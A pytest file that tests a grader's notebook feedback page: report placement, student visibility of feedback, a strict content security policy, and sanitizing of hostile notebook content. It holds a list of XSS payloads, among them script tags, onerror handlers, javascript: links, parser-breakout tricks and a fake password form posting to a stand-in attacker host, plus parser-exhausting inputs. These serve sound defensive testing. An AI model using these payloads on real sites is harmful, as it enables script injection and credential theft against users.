"""The page of a notebook with its report: complete, beside the right cells, and harmless whatever it is made of."""

from __future__ import annotations

import base64
import json
import re
import time
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from typing import Any

import pytest

from grader.course.model import Exercise
from grader.notebooks.feedback import feedback_page
from grader.notebooks.safe_html import safe_html, safe_markdown
from grader.notebooks.shown import CELLS, CUT
from grader.report import CheckResult, Report, Verdict, Where
from grader.report.visibility import for_student

Make = Callable[..., Any]

PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="http://mallory.example/seen.png">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img alt="><script>alert(1)</script>">',
    "<svg onload=alert(1)><use href=http://mallory.example/x.svg#a></svg>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\tscript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "[x](javascript:alert(1)) ![x](javascript:alert(1)) [x](data:text/html,x)",
    "![x](http://mallory.example/x.png) <http://mallory.example>",
    '<iframe src="http://mallory.example"></iframe><object data=x></object><embed src=x>',
    '<form action="http://mallory.example"><input name=password><button>Send</button></form>',
    "<style>body { background: url(http://mallory.example) }</style><link rel=stylesheet href=http://mallory.example>",
    '<p style="position:fixed;inset:0">over all</p>',
    '<div class="card"><p class="headline">5 of 5 points</p></div><p id="report-1">mine</p>',
    '<meta http-equiv="refresh" content="0;url=http://mallory.example"><base href="http://mallory.example">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "</section></main></body><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "`</code><script>alert(1)</script>`",
    "$</code><script>alert(1)</script>$ $$<img src=x onerror=alert(1)>$$",
    "```python\n</pre><script>alert(1)</script>\n```",
    "```<script>\nx\n```",
    "\x1b]8;;http://mallory.example\x1b\\x\x1b]8;;\x1b\\ \u202eabc",
]
ALLOWED_SCHEMES = re.compile(r"(https?:|mailto:|#)")
ATTRIBUTES = {
    *("class", "id", "href", "rel", "title", "alt", "src", "scope", "open", "start", "colspan", "rowspan"),
    *("aria-hidden", "aria-label", "aria-labelledby", "content", "charset", "name", "http-equiv", "lang"),
}
OURS = {"html", "head", "meta", "title", "style", "body", "main", "section", "article", "aside"}
PROSE = {
    *("a", "b", "blockquote", "br", "code", "del", "details", "div", "em", "h1", "h2", "h3", "hr", "i", "img", "li"),
    *("ol", "p", "pre", "s", "span", "strong", "summary", "table", "tbody", "td", "th", "thead", "tr", "ul"),
}


class Page(HTMLParser):
    """A page's tags with their attributes, and its text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def harmless(html: str) -> Page:
    """The page, after a look at every tag and attribute in it."""
    page = Page(html)
    for tag, attributes in page.tags:
        assert tag in OURS | PROSE, tag
        assert set(attributes) <= ATTRIBUTES, (tag, attributes)
        if "href" in attributes:
            assert ALLOWED_SCHEMES.match(attributes["href"] or ""), attributes
        if "src" in attributes:
            assert (attributes["src"] or "").startswith(("data:image/png;base64,", "data:image/jpeg;base64,")), (
                attributes
            )
    return page


def failing(cell: int = 0, line: int = 0, **more: Any) -> CheckResult:
    where = Where(file="ada.ipynb", cell=cell, line=line, source="return x") if cell else None
    fields = {"name": "twice", "title": "twice a tensor", "verdict": Verdict.WRONG, "rationale": "too small", **more}
    return CheckResult(**{"points": 1000, "hidden": True, "where": where, **fields})


def report_with(*checks: CheckResult, **more: Any) -> Report:
    verdict = next((check.verdict for check in checks if check.verdict is not Verdict.PASSED), Verdict.PASSED)
    fields = {"exercise": "double_it", "title": "Twice as much", "submission": "ada.ipynb", "verdict": verdict}
    return Report(**{**fields, "checks": checks, "max_score": 3000, **more})


def row(page: str, number: int) -> str:
    """The part of the page that belongs to a cell."""
    return page.split(f'id="cell-{number}"')[1].partition("<section")[0]


@pytest.fixture
def page(double_it: Exercise, notebook: Make) -> Callable[..., str]:
    """The page for a notebook of these cells, with a report that says nothing unless one is given."""

    def made(*cells: Any, report: Report | None = None) -> str:
        return feedback_page(report or report_with(), notebook(*cells), double_it)

    return made


def test_what_the_report_says_stands_beside_the_cell_it_is_about(page: Make, answer: Make) -> None:
    report = report_with(failing(2, 3, hint="Twice one is two."), failing(title="whole numbers", rationale="no error"))
    text = page("x = 1", answer("a = 1\nb = 2\nreturn b"), "y = 1", report=report)
    beside = row(text, 2)
    assert "line 3" in beside
    assert "twice a tensor" in beside
    assert "too small" in beside
    assert "Twice one is two." in beside
    assert '<span class="hll"><span class="k">return</span>' in beside
    assert "whole numbers" in beside  # of no line: it stands at the answer
    assert ">graded<" in beside
    assert "too small" not in row(text, 1) + row(text, 3)
    assert "graded" not in row(text, 1) + row(text, 3)
    assert 'class="card" id="report-1"' in text  # and all of it above
    harmless(text)


def test_the_place_of_a_whole_submission_stands_beside_its_cell(page: Make) -> None:
    where = Where(file="ada.ipynb", cell=1, line=1, source="def f(:")
    text = page("def f(:", report=report_with(verdict=Verdict.CRASHED, message="Python can't read it.", where=where))
    assert "Python can&#x27;t read it." in row(text, 1).replace("can't", "can&#x27;t")
    assert 'class="hll"' in row(text, 1)


def test_what_is_about_no_line_stands_where_the_answer_begins(page: Make, answer: Make) -> None:
    text = page("y = 1", answer("return y"), report=report_with(failing()))
    assert "graded" in row(text, 1)  # the answer uses it
    assert "too small" not in row(text, 1)
    assert "too small" in row(text, 2)
    text = page("y = 1", "def double_it(x): pass", "z", report=report_with(failing()))
    assert "too small" in row(text, 2)


def test_a_passed_notebook_says_so_at_the_answer(page: Make, answer: Make) -> None:
    passed = CheckResult(name="a", title="a", verdict=Verdict.PASSED, points=3000, earned=3000, hidden=True)
    text = page(answer("x = 1"), report=report_with(passed, score=3000))
    assert "passed" in row(text, 1)
    assert "remark good" in row(text, 1)


def test_a_student_reads_only_what_a_student_may(page: Make, answer: Make) -> None:
    secret = failing(1, 1, rationale="the secret", hint="secret hint", visible="after_due")
    report = report_with(secret, failing(1, 1, title="hidden title", rationale="the secret", visible="never"))
    assert "secret" not in page(answer("x = 1"), report=for_student(report))
    assert "hidden title" not in page(answer("x = 1"), report=for_student(report))
    assert "secret hint" in page(answer("x = 1"), report=for_student(report, after_due=True))


def test_the_page_is_one_file_under_a_policy_that_allows_nothing_else(page: Make) -> None:
    text = page("x = 1")
    (policy,) = re.findall(r'Content-Security-Policy" content="([^"]+)"', text)
    assert policy.startswith("default-src 'none'; img-src data:; style-src 'sha256-")
    assert "script" not in policy
    assert not re.search(r"(src|href)=\"(?!data:|#)", text)
    assert "<script" not in text
    assert "url(" not in text


def outputs() -> Iterator[Any]:
    """Each hostile text as every kind of output."""
    for text in HOSTILE:
        bundles = ["text/html", "text/markdown", "text/plain", "image/svg+xml", "application/javascript", "text/latex"]
        yield [{"output_type": "display_data", "data": {kind: text}, "metadata": {}} for kind in bundles] + [
            {"output_type": "stream", "name": text, "text": text},
            {"output_type": "error", "ename": text, "evalue": text, "traceback": [text]},
            {"output_type": "display_data", "data": {"image/png": text, "text/plain": "picture"}, "metadata": {}},
            {"output_type": "execute_result", "data": {"text/html": [text, text]}, "execution_count": text},
            {"output_type": text, "data": {"text/html": text}},
        ]


@pytest.mark.parametrize("number", range(len(HOSTILE)))
def test_nothing_in_a_hostile_notebook_survives(number: int, page: Make, cell: Make) -> None:
    text = HOSTILE[number]
    cells = [
        cell(text, "markdown", attachments={text: {"image/png": text}}),
        cell(text, "raw", metadata={"raw_mimetype": "text/html", "format": "text/html"}),
        cell(text, outputs=list(outputs())[number], execution_count=text, tags=[text], id=text),
        cell(text, text),
        cell("x", "heading", level=text),
    ]
    made = page(*cells)
    found = harmless(made)
    inside = made.partition('<div class="notebook">')[2]
    assert "mallory.example" not in re.sub(r"<a [^>]*>", "", inside) or "mallory.example" in found.text
    assert "\x1b" not in made
    assert "\u202e" not in made


def test_nothing_of_a_stranger_can_look_like_ours() -> None:
    text = safe_markdown('<div class="card good" id="report-1" style="color:red"><p class="headline">5 of 5</p></div>')
    assert text.strip() == "<div><p>5 of 5</p></div>"


def test_metadata_reaches_no_page(page: Make, cell: Make, notebook: Make, double_it: Exercise) -> None:
    bad = {"number": "<script>", "beside": "<script>", "graded": True, "lines": ["<script>"], "tags": ["<script>"]}
    text = feedback_page(report_with(), notebook(cell("x", metadata=bad), metadata={"title": "<script>"}), double_it)
    assert "script" not in text.partition("<body>")[2]


def test_tables_and_formulas_and_pictures_are_shown(page: Make, cell: Make) -> None:
    table = "<table border=1 class=dataframe onclick=x><tr><td colspan=2>1</td></tr></table>"
    shown = [
        {"output_type": "display_data", "data": {"text/html": [table], "text/plain": "a table"}, "metadata": {}},
        {"output_type": "display_data", "data": {"image/png": PNG + "\n", "text/plain": "<Figure>"}, "metadata": {}},
        {"output_type": "stream", "name": "stderr", "text": ["a <b>\n", "\x1b[31mred\x1b[0m"]},
    ]
    prose = cell("# Notes\n\n$\\beta_1^t$ ![p](attachment:a.png)\n\n| a |\n|---|\n| 1 |", "markdown")
    prose["attachments"] = {"a.png": {"image/png": PNG}}
    text = page(prose, cell("plot()", outputs=shown))
    assert "<code>β₁ᵗ</code>" in text
    assert text.count(f'src="data:image/png;base64,{PNG}"') == 2
    assert '<table><tbody><tr><td colspan="2">1</td></tr></tbody></table>' in text
    assert "a &lt;b&gt;\nred" in text
    assert "a table" not in text
    assert "&lt;Figure&gt;" not in text
    harmless(text)


def test_what_is_no_picture_is_left_to_its_text(page: Make, cell: Make) -> None:
    for wrong in ("no base64!", "", "A" * (5 << 20), base64.b64encode(b"x" * 4_000_000).decode()):
        output = {"output_type": "display_data", "data": {"image/png": wrong, "text/plain": "a figure"}, "metadata": {}}
        text = page(cell("x", outputs=[output]))
        assert "<img" not in text
        assert "a figure" in text


def test_a_notebook_that_can_not_be_read_leaves_the_report(double_it: Exercise) -> None:
    report = report_with(verdict=Verdict.CRASHED, message="This is not a notebook.")
    text = feedback_page(report, b"\x89PNG", double_it)
    assert "This is not a notebook." in text
    assert "<script" not in text


def test_format_3_is_shown_too(double_it: Exercise) -> None:
    old = {"cell_type": "code", "input": ["x = 12345"], "outputs": [{"output_type": "pyout", "text": "y"}]}
    data = json.dumps({"nbformat": 3, "worksheets": [{"cells": [old]}]}).encode()
    assert "12345" in feedback_page(report_with(), data, double_it)


def test_fifty_megabytes_of_outputs_make_a_small_page(page: Make, cell: Make) -> None:
    stream = {"output_type": "stream", "name": "stdout", "text": "x" * (20 << 20)}
    lines = {"output_type": "stream", "name": "stdout", "text": ["y\n"] * 200_000}
    html = {"output_type": "display_data", "data": {"text/html": "<b>z" * (5 << 20), "text/plain": "z"}, "metadata": {}}
    began = time.monotonic()
    text = page(cell("x = 1", outputs=[stream, lines, html, *[stream] * 1]))
    assert len(text) < 1 << 20
    assert "lines left out here" in text
    assert time.monotonic() - began < 20


def test_thousands_of_cells_and_outputs_are_cut(page: Make, cell: Make) -> None:
    many = [{"output_type": "stream", "name": "stdout", "text": f"{n}"} for n in range(500)]
    text = page(cell("x", outputs=many), *["y"] * (CELLS + 5))
    assert text.count("<section") == CELLS
    assert text.count(CUT) == 2


@pytest.mark.parametrize(
    "source",
    [
        *(
            "`" * 100_000,
            "```x\n" * 20_000,
            "$" * 100_000,
            "$a" * 50_000,
            "$$\n" * 33_000,
            "[" * 100_000,
            "*a_" * 30_000,
        ),
        *("<div>" * 20_000, "<b>" * 33_000, "> " * 50_000, "![a](" * 20_000, "- " * 50_000, "<a href='" * 11_000),
        *(
            "|" * 100_000,
            "<!--" * 20_000,
            "<table><tr><td>" * 6_000,
            "$" + "{" * 1900 + "$",
            "$" + "\\hat{" * 380 + "$",
        ),
    ],
    ids=lambda source: source[:6].replace("\n", "|"),
)
def test_hostile_prose_takes_time_that_grows_with_its_length(source: str) -> None:
    began = time.monotonic()
    safe_markdown(source)
    safe_html(source)
    assert time.monotonic() - began < 30


def test_prose_beyond_all_measure_is_shown_as_plain_text(page: Make, cell: Make) -> None:
    text = page("x", *[cell("**a** " * 15_000, "markdown")] * 8)
    assert text.count("<strong>") < 5 * 15_000
    assert "**a**" in text


@pytest.mark.parametrize("source", ["'" * 100_000, '"""a\n' * 20_000, "(" * 100_000, "f'{" * 30_000, "@a" * 40_000])
def test_hostile_code_is_coloured_in_a_moment(source: str, page: Make) -> None:
    began = time.monotonic()
    page(source)
    assert time.monotonic() - began < 30
